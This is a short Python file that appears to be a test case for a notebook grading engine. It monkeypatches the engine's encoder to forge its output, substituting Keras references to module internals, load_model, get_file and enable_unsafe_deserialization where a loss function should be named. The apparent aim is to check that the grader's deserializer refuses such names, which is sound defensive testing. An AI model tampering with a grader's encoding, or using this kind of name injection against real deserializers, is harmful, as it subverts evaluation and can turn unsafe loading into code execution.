# why: what should name a loss of Keras's names modules, loaders, classes and functions that do something else
# earns: 7
import msgpack
from nbjudge.engine.transport.values import Encoder

NAMES = [("losses", "__loader__"), ("losses", "__spec__"), ("losses", "Loss"), ("losses", "get"),
         ("losses", "deserialize"), ("metrics", "Accuracy"), ("metrics", "__builtins__"),
         ("saving", "load_model"), ("utils", "get_file"), ("config", "enable_unsafe_deserialization"),
         ("__class__", "__init__"), ("losses.losses", "mse")]
honest_tree = Encoder.tree

def forged(self, values):
    named = msgpack.unpackb(honest_tree(self, values), raw=False, strict_map_key=False)
    named["decoded"] = ["list", [["keras-function", *name] for name in NAMES]]
    return msgpack.packb(named)

Encoder.tree = forged
decoded = 0
